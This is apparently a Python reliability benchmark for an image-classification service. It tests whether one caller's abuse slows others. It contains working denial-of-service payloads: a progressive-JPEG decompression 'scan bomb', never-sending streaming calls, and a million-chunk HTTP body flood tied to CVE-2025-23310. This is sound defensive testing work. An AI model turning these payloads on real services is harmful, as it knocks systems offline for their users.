"""Callers that take without asking: images that cost more than their pixels, calls without a message, floods of chunks.

Each is measured by what another caller notices, who has a connection of its own and sends small images all along.
"""

from __future__ import annotations

import asyncio
import io
import time
from collections.abc import AsyncIterator, Awaitable, Callable, Mapping, Sequence
from contextlib import suppress
from typing import Any

from PIL import Image

from benchmarks.load.images import make_image
from benchmarks.load.plan import Target
from benchmarks.reliability._load import (
    Caller,
    Outcome,
    call,
    connect,
    count_codes,
    first_answer,
    keep_calling,
    make_request,
    metadata,
    p99_ms,
)
from benchmarks.reliability._verdict import Verdict
from clipsr.v1 import types_pb2

__all__ = [
    "judge_beside",
    "judge_ready",
    "make_scan_bomb",
    "measure_chunks",
    "measure_scans",
    "measure_silent",
]

_LABELS = [f"thing {number}" for number in range(10)]
_TIMEOUT_S = 20.0
_READY_WITHIN_S = 5.0
# The largest square image whose header is taken; a scan costs its pixels again, and 94 bytes.
_BOMB_SIDE_PX, _BOMB_SCANS, _BOMB_TIMEOUT_S = 8000, 1500, 1.5
# A million chunks of one byte is what CVE-2025-23310 needs; sent in blocks, for a system call each would take a minute.
_CHUNKS, _BLOCK = 1_000_000, 1000

Attack = Callable[[float], Awaitable[Mapping[str, int]]]
"""Attacks for so many seconds; returns how often it ended in what."""


def judge_beside(
    what: str, alone: Sequence[Outcome], beside: Sequence[Outcome], ended: Mapping[str, int] | str
) -> Verdict:
    """Compare one caller's calls alone with those beside another's."""
    alone_ms, beside_ms = (
        p99_ms([outcome.latency_s for outcome in calls if outcome.is_ok]) for calls in (alone, beside)
    )
    failed = [outcome for outcome in beside if not outcome.is_ok]
    return Verdict(
        claim=f"another caller's {what} raise a caller's p99 by no more than 3 x",
        measured=f"{alone_ms:.0f} ms alone, {beside_ms:.0f} ms beside {ended}; "
        f"{len(failed)} of {len(beside)} calls failed {count_codes(failed) or ''}".rstrip(),
        holds=bool(beside) and not failed and beside_ms <= 3 * alone_ms,
    )


def judge_ready(first: Outcome | None, *, ended_s: float) -> Verdict:
    """Look at the first good answer after an attack that ended at `ended_s`; None if there was none."""
    took_s = first.began_s + first.latency_s - ended_s if first else None
    return Verdict(
        claim=f"answers within {_READY_WITHIN_S:g} s of the end",
        measured="no answer" if took_s is None else f"after {took_s:.1f} s",
        holds=took_s is not None and took_s <= _READY_WITHIN_S,
    )


async def _measure(target: Target, what: str, attack: Attack, *, seconds: float, patience_s: float) -> list[Verdict]:
    requests = [make_request([make_image(32, seed=seed)], _LABELS) for seed in range(2)]
    async with connect(target, connections=2) as stubs:
        callers = [_asker(stub, request, target) for stub, request in zip(stubs, requests, strict=True)]
        await keep_calling(callers, seconds=min(5.0, seconds))
        alone = await keep_calling(callers, seconds=seconds)
        beside, ended = await asyncio.gather(keep_calling(callers, seconds=seconds), attack(seconds))
        ended_s = time.monotonic()
        first = await first_answer(callers[0], patience_s=patience_s)
    return [judge_beside(what, alone, beside, ended), judge_ready(first, ended_s=ended_s)]


def _asker(stub: Any, request: Any, target: Target) -> Caller:
    return lambda: call(stub.Classify, request, target, timeout_s=_TIMEOUT_S)


def make_scan_bomb(side_px: int, scans: int) -> bytes:
    """Return a JPEG whose last progressive scan comes again and again: small to send, long to decode."""
    buffer = io.BytesIO()
    Image.new("RGB", (side_px, side_px)).save(buffer, "JPEG", progressive=True)
    plain = buffer.getvalue()
    last = plain[plain.rfind(b"\xff\xda") : -2]
    return plain[:-2] + last * scans + plain[-2:]


async def measure_scans(target: Target, *, callers: int, seconds: float) -> list[Verdict]:
    """Send progressive JPEGs of 64 megapixels and 1,500 scans in 518 KB, each with a short deadline."""
    request = make_request([make_scan_bomb(_BOMB_SIDE_PX, _BOMB_SCANS)], _LABELS)
    request.options.route = types_pb2.ROUTE_UPSCALED

    async def attack(for_s: float) -> Mapping[str, int]:
        async with connect(target, connections=callers) as stubs:
            asks = [lambda stub=stub: call(stub.Classify, request, target, timeout_s=_BOMB_TIMEOUT_S) for stub in stubs]
            return count_codes(await keep_calling(asks, seconds=for_s))

    return await _measure(target, "scan bombs", attack, seconds=seconds, patience_s=180)


async def measure_silent(target: Target, *, callers: int, seconds: float) -> list[Verdict]:
    """Open calls that never send their message, all on one connection."""

    async def nothing() -> AsyncIterator[bytes]:
        await asyncio.Event().wait()
        yield b""  # never

    async def attack(for_s: float) -> Mapping[str, int]:
        channel = target.access.open_channel(target.url)
        classify = channel.stream_unary("/clipsr.v1.ClassifierService/Classify")
        calls = [classify(nothing(), metadata=metadata(target, "silent")) for _ in range(callers)]
        await asyncio.sleep(for_s)
        codes = [(await silent.code()).name if silent.done() else "silent to the end" for silent in calls]
        await channel.close()
        return {code: codes.count(code) for code in set(codes)}

    return await _measure(target, f"{callers} silent calls", attack, seconds=seconds, patience_s=180)


async def measure_chunks(target: Target, addresses: Mapping[str, str], *, seconds: float) -> list[Verdict]:
    """Send bodies of a million chunks of one byte to every HTTP port.

    Args:
        target: the service.
        addresses: HOST:PORT of each port that speaks HTTP, by a name.
        seconds: how long, at least; a body that was begun is sent whole.
    """

    async def attack(for_s: float) -> Mapping[str, int]:
        clock = asyncio.get_running_loop().time
        end_s, ended = clock() + for_s, dict[str, int]()
        while clock() < end_s:
            for name, address in addresses.items():
                outcome = f"{name}: {await send_chunks(address)}"
                ended[outcome] = ended.get(outcome, 0) + 1
        return ended

    return await _measure(target, "chunk floods", attack, seconds=seconds, patience_s=60)


async def send_chunks(address: str, *, chunks: int = _CHUNKS) -> str:
    """Send one body; return the first line of the answer, or that there was none."""
    host, _, port = address.rpartition(":")
    with suppress(OSError):
        reader, writer = await asyncio.open_connection(host, int(port))
        try:
            path = "/v2/models/similarity/infer"
            writer.write(f"POST {path} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n".encode())
            with suppress(OSError):  # an answer may come before all is sent
                for _ in range(chunks // _BLOCK):
                    writer.write(b"1\r\nA\r\n" * _BLOCK)
                    await writer.drain()
                writer.write(b"0\r\n\r\n")
            try:
                line = await asyncio.wait_for(reader.readline(), _TIMEOUT_S)
            except TimeoutError:
                return "no answer"
            return line.decode("latin-1").strip() or "closed without an answer"
        finally:
            writer.close()
    return "closed"
